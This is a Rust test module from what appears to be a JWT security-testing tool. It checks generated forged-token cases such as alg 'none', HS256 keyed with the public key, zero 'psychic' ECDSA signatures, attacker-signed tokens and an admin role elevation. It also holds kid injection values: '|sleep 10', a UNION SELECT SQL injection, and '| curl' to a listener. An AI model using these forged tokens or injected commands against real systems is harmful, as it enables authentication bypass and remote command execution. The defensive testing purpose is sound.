        let unsigned = cases(&f, false);
        assert!(unsigned.iter().all(|c| !c.resigned));
        assert!(all.iter().filter(|c| c.resigned).count() > 40);
        for c in unsigned.iter().filter(|c| c.check != "TOK-025") {
            assert!(
                !verifies_with(&f.target, token(c)) || token(c) == f.token,
                "{}",
                c.variant
            );
        }
    }

    #[test]
    fn alg_none_variants_decode_as_intended() {
        let f = fixture();
        let all = cases(&f, false);
        for (variant, alg) in [
            ("alg none", Some("none")),
            ("alg None", Some("None")),
            ("alg NONE", Some("NONE")),
            ("alg nOnE", Some("nOnE")),
            ("alg empty", Some("")),
            ("alg missing", None),
        ] {
            let bare = token(find(&all, "TOK-003", &format!("{variant}, no signature")));
            assert!(bare.ends_with('.'));
            let jwt = Jwt::parse(bare).unwrap();
            assert_eq!(jwt.alg(), alg, "{variant}");
            assert!(jwt.signature.is_empty());
            assert_eq!(jwt.claims, Jwt::parse(&f.token).unwrap().claims);
            let kept = Jwt::parse(token(find(
                &all,
                "TOK-003",
                &format!("{variant}, original signature kept"),
            )))
            .unwrap();
            assert_eq!(kept.signature, Jwt::parse(&f.token).unwrap().signature);
        }
        let null = token(find(&all, "TOK-002", "empty signature (h.p.)"));
        assert_eq!(null, format!("{}.", f.token.rsplit_once('.').unwrap().0));
    }

    #[test]
    fn key_confusion_verifies_with_hmac_over_the_pem_bytes() {
        let f = fixture();
        let all = cases(&f, false);
        let pem = PublicEncodings::from_jwk(&f.target.jwk()).unwrap().spki_pem();
        let t = token(find(
            &all,
            "TOK-006",
            "HS256 keyed with the public key as SPKI PEM with trailing newline",
        ));
        let jwt = Jwt::parse(t).unwrap();
        assert_eq!(jwt.alg(), Some("HS256"));
        assert_eq!(jwt.kid(), Some("ins_target"));
        let (input, _) = t.rsplit_once('.').unwrap();
        assert_eq!(jwt.signature, hs256(pem.as_bytes(), input));
        let t = token(find(
            &all,
            "TOK-006",
            "HS256 keyed with the public key as SPKI PEM without trailing newline",
        ));
        let (input, sig) = t.rsplit_once('.').unwrap();
        assert_eq!(unb64(sig).unwrap(), hs256(pem.trim_end().as_bytes(), input));
        let t = token(find(&all, "TOK-004", "HS256 with an empty key"));
        let (input, sig) = t.rsplit_once('.').unwrap();
        assert_eq!(unb64(sig).unwrap(), hs256(b"", input));
        let t = token(find(&all, "TOK-005", "HS256 with the kid as secret"));
        let (input, sig) = t.rsplit_once('.').unwrap();
        assert_eq!(unb64(sig).unwrap(), hs256(b"ins_target", input));
    }

    #[test]
    fn psychic_signatures_are_zero() {
        let f = fixture();
        let all = cases(&f, false);
        let jwt = Jwt::parse(token(find(&all, "TOK-007", "ES256, r = s = 0 (64 zero bytes)"))).unwrap();
        assert_eq!(jwt.alg(), Some("ES256"));
        assert_eq!(jwt.signature, vec![0u8; 64]);
        let jwt = Jwt::parse(token(find(&all, "TOK-007", "ES256, r = s = 0 DER-encoded"))).unwrap();
        assert_eq!(jwt.signature, vec![0x30, 6, 2, 1, 0, 2, 1, 0]);
    }

    #[test]
    fn foreign_key_tokens_verify_only_with_the_attacker_key() {
        let f = fixture();
        let all = cases(&f, false);
        let t = token(find(
            &all,
            "TOK-008",
            "RS256 signed by the attacker's RSA key under the real kid",
        ));
        assert_eq!(Jwt::parse(t).unwrap().kid(), Some("ins_target"));
        assert!(verifies_with(&f.attacker.rsa, t));
        assert!(!verifies_with(&f.target, t));
        let jwt = Jwt::parse(token(find(&all, "TOK-009", "embedded RSA jwk, the real kid"))).unwrap();
        assert_eq!(jwt.header["jwk"]["n"], f.attacker.rsa.jwk()["n"]);
        let jwt = Jwt::parse(token(find(
            &all,
            "TOK-010",
            "x5c: the attacker's self-signed certificate, real kid",
        )))
        .unwrap();
        assert!(jwt.header["x5c"][0].as_str().unwrap().len() > 500);
    }

    #[test]
    fn claim_cases_keep_or_replace_the_signature_as_labelled() {
        let f = fixture();
        let all = cases(&f, true);
        let unsigned = find(&all, "TOK-013", "exp one hour ago (original signature)");
        let jwt = Jwt::parse(token(unsigned)).unwrap();
        assert_eq!(jwt.claims["exp"], NOW - 3600);
        assert_eq!(jwt.signature, Jwt::parse(&f.token).unwrap().signature);
        let resigned = find(
            &all,
            "TOK-013",
            "exp one hour ago (re-signed with the target's key)",
        );
        assert!(resigned.resigned);
        assert!(verifies_with(&f.target, token(resigned)));
        let jwt = Jwt::parse(token(resigned)).unwrap();
        assert_eq!(jwt.claims["exp"], NOW - 3600);
        let no_sid = Jwt::parse(token(find(
            &all,
            "TOK-018",
            "sid removed (a template token's shape) (re-signed with the target's key)",
        )))
        .unwrap();
        assert!(!no_sid.claims.contains_key("sid"));
        let fuzz = find(
            &all,
            "TOK-012",
            "`o.rol` as null (re-signed with the target's key)",
        );
        assert_eq!(fuzz.judge, Judge::NoServerError);
        assert_eq!(Jwt::parse(token(fuzz)).unwrap().claims["o"]["rol"], Value::Null);
        let org = Jwt::parse(token(find(&all, "TOK-023", "o.id -> another org"))).unwrap();
        assert_eq!(org.claims["o"]["id"], "org_b");
        let role = Jwt::parse(token(find(&all, "TOK-022", "o.rol -> admin"))).unwrap();
        assert_eq!(role.claims["o"]["rol"], "admin");
        assert!(!all
            .iter()
            .any(|c| c.resigned && matches!(c.check, "TOK-022" | "TOK-023")));
    }

    /// Every case of jwt_tool's all-tests mode (playbook, forced errors,
    /// common claims) has a counterpart here; docs/jwt_tool.md maps them.
    #[tokio::test]
    async fn jwt_tool_all_tests_cases_are_built() {
        let f = fixture();
        let listener = KeyUrlListener::start(json!({ "keys": [] }), "PEM".into())
            .await
            .unwrap();
        let all = build(&Material {
            token: &f.token,
            jwks: &f.jwks,
            attacker: &f.attacker,
            signing_key: None,
            key_urls: Some(&listener),
            foreign_org: None,
            now: NOW,
        })
        .unwrap();
        let original = Jwt::parse(&f.token).unwrap();
        let cut = token(find(&all, "TOK-001", "signature text cut by 4 characters"));
        assert_eq!(format!("{cut}{}", &f.token[cut.len()..]), f.token);
        assert_eq!(f.token.len() - cut.len(), 4);
        // The playbook's kid injections, with its exact values and keys.
        for (variant, kid, key) in [
            ("blank kid, HS256 with an empty key", "", &b""[..]),
            ("kid /invalid_path, HS256 with an empty key", "/invalid_path", b""),
            (
                "kid \"|sleep 10\" (command injection), HS256 with an empty key",
                "|sleep 10",
                b"",
            ),
            (
                "kid SQL injection UNION SELECT '1', HS256 keyed with `1`",
                "x' UNION SELECT '1';--",
                b"1",
            ),
        ] {
            let jwt = Jwt::parse(token(find(&all, "TOK-011", variant))).unwrap();
            assert_eq!(jwt.kid(), Some(kid), "{variant}");
            let input = jwt.signing_input(&jwt.header, &jwt.claims);
            assert_eq!(jwt.signature, hs256(key, &input), "{variant}");
        }
        let rce = Jwt::parse(token(find(
            &all,
            "TOK-011",
            "kid \"| curl <listener>\" (command injection), HS256 with an empty key",
        )))
        .unwrap();
        assert_eq!(
            rce.kid(),
            Some(format!("| curl {}", listener.ping("kid-rce")).as_str())
        );
        // Forced errors: every header parameter as null, true, false, a string, 0.
        for name in ["alg", "typ", "kid"] {
            for label in ["null", "true", "false", "a string", "0"] {
                let case = find(
                    &all,
                    "TOK-012",
                    &format!("header `{name}` as {label} (original signature)"),
                );
                let jwt = Jwt::parse(token(case)).unwrap();
                assert_eq!(jwt.signature, original.signature);
                assert_eq!(jwt.claims, original.claims);
            }
        }
        // Common claims: the common header names and payload claims, added.
        for name in COMMON_HEADERS
            .iter()
            .filter(|n| !original.header.contains_key(**n))
        {
            find(
                &all,
                "TOK-012",
                &format!("header `{name}` as 0 (original signature)"),
            );
            find(
                &all,
                "TOK-010",
                &format!("header `{name}` -> the suite's listener (original signature)"),
            );
        }
        for name in COMMON_CLAIMS
            .iter()
            .filter(|n| !original.claims.contains_key(**n))
        {
            let jwt = Jwt::parse(token(find(
                &all,
                "TOK-012",
                &format!("claim `{name}` added as true (original signature)"),
            )))
            .unwrap();
            assert_eq!(jwt.claims[*name], true);
            find(
                &all,
                "TOK-010",
                &format!("claim `{name}` -> the suite's listener (original signature)"),
            );
        }
        // External interactions and claim processing order: every claim.
        for name in original.claims.keys() {
            let jwt = Jwt::parse(token(find(
                &all,
                "TOK-010",
                &format!("claim `{name}` -> the suite's listener (original signature)"),
            )))
            .unwrap();
            assert_eq!(jwt.claims[name], listener.ping(&format!("claim-{name}")));
            let marker = find(
                &all,
                "TOK-001",
                &format!(
                    "claim `{name}` replaced with a marker that must not be echoed (original signature)"
                ),
            );
            assert_eq!(marker.judge, Judge::MustRefuseUnechoed);
            let jwt = Jwt::parse(token(marker)).unwrap();
            assert_eq!(jwt.claims[name], format!("{REFLECT_MARKER}{name}"));
            assert_eq!(jwt.signature, original.signature);
        }
    }

    #[test]
    fn cookie_and_header_conflicts_carry_both() {
        let f = fixture();
        let all = cases(&f, false);
        let case = find(
            &all,
            "TOK-025",
            "Authorization valid, __session with o.rol elevated",
        );
        let Delivery::Headers(headers) = &case.delivery else {
            panic!("headers expected")
        };
        assert_eq!(
            headers[0],
            ("authorization".into(), format!("Bearer {}", f.token))
        );
        let cookie = headers[1].1.strip_prefix("__session=").unwrap();
        assert_ne!(cookie, f.token);
        assert_eq!(Jwt::parse(cookie).unwrap().claims["o"]["rol"], "admin");
    }
}
